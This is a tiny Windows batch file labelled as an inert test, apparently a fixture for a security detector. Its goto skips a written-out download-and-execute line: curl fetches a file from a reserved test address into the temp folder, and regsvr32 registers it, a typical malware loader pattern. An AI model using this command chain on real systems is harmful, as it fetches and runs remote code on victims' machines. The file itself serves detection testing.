@echo off
rem INERT SEKISHO TEST
goto :end
cmd /q /c echo 'INERT' && curl -o %temp%\inert.ocx http://192.0.2.1/1.dat && ping -n 2 localhost && regsvr32 %temp%\inert.ocx
:end
